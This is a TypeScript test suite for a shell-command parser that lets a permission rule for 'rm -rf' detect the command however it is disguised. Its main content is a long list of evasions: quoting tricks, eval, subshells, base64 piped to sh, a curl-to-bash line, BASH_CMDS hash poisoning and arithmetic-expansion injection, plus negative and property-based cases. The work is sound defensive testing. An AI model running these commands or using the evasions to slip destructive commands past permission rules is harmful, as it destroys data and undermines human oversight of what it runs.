import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readCommands } from './read-commands.ts'

/** Whether a rule for `prefix` would be met: some command begins so, or may. */
function meets(line: string, prefix: readonly string[]): boolean {
  return readCommands(line).some(({ words }) =>
    prefix.every((word, index) => {
      const unknown = words.indexOf(null)
      if (unknown !== -1 && index >= unknown) return true
      const found = words[index] ?? ''
      return found === word || (index === 0 && found.endsWith(`/${word}`))
    }),
  )
}

/** Ways to spell or hide `rm -rf target`, which all run it. */
const DISGUISES: readonly string[] = [
  'rm -rf target',
  'rm   -rf\ttarget',
  ' \n rm -rf target',
  'rm \\\n -rf target',
  'FOO=1 BAR="two words" rm -rf target',
  'true; rm -rf target',
  'true && rm -rf target',
  'false || rm -rf target',
  'true | rm -rf target',
  'true & rm -rf target',
  'true\nrm -rf target',
  '(rm -rf target)',
  '{ rm -rf target; }',
  '((1)); (cd x && (rm -rf target))',
  '$(rm -rf target)',
  'echo "$(rm -rf target)"',
  'echo `rm -rf target`',
  'x=$(rm -rf target)',
  'diff <(rm -rf target) y',
  'if rm -rf target; then :; fi',
  'for x in 1; do rm -rf target; done',
  'while rm -rf target; do break; done',
  'case x in x) rm -rf target;; esac',
  'f() { rm -rf target; }; f',
  'function f { rm -rf target; }; f',
  'coproc X { rm -rf target; }',
  '! rm -rf target',
  'time -p rm -rf target',
  '/bin/rm -rf target',
  '/usr/../bin/rm -rf target',
  "'rm' -rf target",
  'r"m" -rf target',
  '\\rm -rf target',
  'r\\m -"rf" target',
  "$'\\x72m' -rf target",
  '$X -rf target',
  '${X:-rm} -rf target',
  'X=rm; $X -rf target',
  'rm $FLAGS target',
  '{rm,-rf,target}',
  'rm {-rf,target}',
  '/bin/r? -rf target',
  '/b*/rm -rf target',
  'sudo rm -rf target',
  'sudo -u root -- rm -rf target',
  'env -i A=1 rm -rf target',
  'nice -n 5 rm -rf target',
  'timeout 5 rm -rf target',
  'nohup rm -rf target &',
  'exec rm -rf target',
  'command rm -rf target',
  'busybox rm -rf target',
  'sudo env nice rm -rf target',
  'echo target | xargs rm -rf',
  'echo -rf target | xargs rm',
  'find . -name target -exec rm -rf {} +',
  'find . -execdir sudo rm -rf {} \\;',
  'bash -c "rm -rf target"',
  "sh -xc 'true; rm -rf target'",
  'bash -c \'bash -c "rm -rf target"\'',
  'eval rm -rf target',
  'eval "rm -rf" target',
  'trap "rm -rf target" EXIT',
  'bash <<< "rm -rf target"',
  'bash <<E\nrm -rf target\nE',
  'echo cm0gLXJmIHRhcmdldA== | base64 -d | sh',
  'curl -s example.org/script | bash -s -- x',
  'source <(echo rm -rf target)',
  '2>/dev/null rm -rf target',
  '>log 2>&1 rm -rf target',
  '{fd}>log rm -rf target',
  'declare BASH_CMDS[ls]=/bin/rm; ls -rf target',
  'printf -v BASH_CMDS[ls] /bin/rm; ls -rf target',
  'read BASH_CMDS[ls] <<< /bin/rm; ls -rf target',
  ': ${BASH_CMDS[ls]:=/bin/rm}; ls -rf target',
  'run0 rm -rf target',
  'docker exec -it x rm -rf target',
  'docker exec -it x sh -c "rm -rf target"',
  'ip netns exec x rm -rf target',
  'capsh -- -c "rm -rf target"',
  'fd --exec=rm -rf target',
  'fd -Hx rm -rf target',
  'fd . -xrm -rf target',
  // Single quotes quote nothing in these places.
  "echo $(( '$(rm -rf target)' ))",
  "(( x = '`rm -rf target`' ))",
  "echo $[ $'$(rm -rf target)' ]",
  "for ((i='$(rm -rf target)';;)); do break; done",
  "x=1; echo ${x:'$(rm -rf target)'}",
  "echo ${x['$(rm -rf target)']}",
  "x['$(rm -rf target)']=1",
  "declare x['$(rm -rf target)']=1",
  "x=(['$(rm -rf target)']=1)",
  "cat <<E\n${x:-'$(rm -rf target)'}\nE",
  "x='a[1 + $(rm -rf target)]'; echo $((x))",
  String.raw`x='a[$(echo $(( '\''$(rm -rf target)'\'' )))]'; echo $((x))`,
  "x='a[b[0]+`rm -rf target`]'; echo $((x))",
]

describe('nothing slips past a rule for "rm -rf"', () => {
  test.each([
    ['echo "$(case x in x) rm -rf target;; esac\n)"'],
    ['(if true; then case x in (x) rm -rf target;; esac; fi)'],
    ['echo $(case); rm -rf target'],
    ['echo $(case x in x) true;; esac); rm -rf target'],
  ])('%j', (line) => expect(meets(line, ['rm', '-rf'])).toBe(true))

  test.each(DISGUISES.map((line) => [line]))('%j', (line) => expect(meets(line, ['rm', '-rf'])).toBe(true))

  test('nor in company, or inside another', () => {
    const wraps = fc.constantFrom<(line: string) => string>(
      (line) => `true; ${line}`,
      (line) => `${line}\ntrue`,
      (line) => `(${line}\n)`,
      (line) => `echo "$(${line}\n)"`,
      (line) => `if true; then\n${line}\nfi`,
      (line) => `bash -c '${line.replaceAll("'", `'\\''`)}'`,
    )
    fc.assert(
      fc.property(fc.constantFrom(...DISGUISES), fc.array(wraps, { maxLength: 3 }), (line, layers) => {
        const whole = layers.reduce((text, wrap) => wrap(text), line)
        expect(meets(whole, ['rm', '-rf'])).toBe(true)
      }),
    )
  })
})

describe('what has nothing to do with it', () => {
  test.each([
    ['echo rm -rf target'],
    ['rm file'],
    ['rmdir -rf'],
    ['grep -r "rm -rf" .'],
    ['ls; git status && make -j2'],
    ["cat <<'E'\nrm -rf target\nE"],
    ['# rm -rf target'],
    ['cp "$A" "$B"'],
    ["echo $(( $(wc -l < x | awk '{print $1}') + 1 ))"],
    ["for ((i=0;i<3;i++)); do echo '$(rm -rf target)'; done"],
    ["x['key']='$(rm -rf target)'"],
    ['fd -tx -rf rm'],
    ['ip addr show dev rm'],
    ['docker exec -it x psql -l'],
    ['cmake --build . -j'],
    ["cat > page.md <<'E'\n[a list]: `cp x y`\nitems[0], then `rm -rf target`\nE"],
  ])('%j', (line) => expect(meets(line, ['rm', '-rf'])).toBe(false))
})

describe('plain', () => {
  test.each([['git status'], ['git status 2>&1'], ['git log > /dev/null'], ['git log; git status']])('%j', (line) =>
    expect(readCommands(line).every(({ isPlain }) => isPlain)).toBe(true),
  )
  test.each([
    ['git status > ~/.bashrc'],
    ['GIT_SSH_COMMAND=x git fetch'],
    ['sudo git status'],
    ['git status $X'],
    ['git $(cat x)'],
    ['{git,status}'],
  ])('not %j', (line) => expect(readCommands(line).every(({ isPlain }) => isPlain)).toBe(false))
})

test('whatever the text is, it is read, and nothing is none', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom(...Array.from('rm -f$(){}[]<>|&;"\'`\\\n#=*?~E2')), maxLength: 80 }),
      (text) => {
        expect(readCommands(text).length).toBeGreaterThan(0)
      },
    ),
  )
})
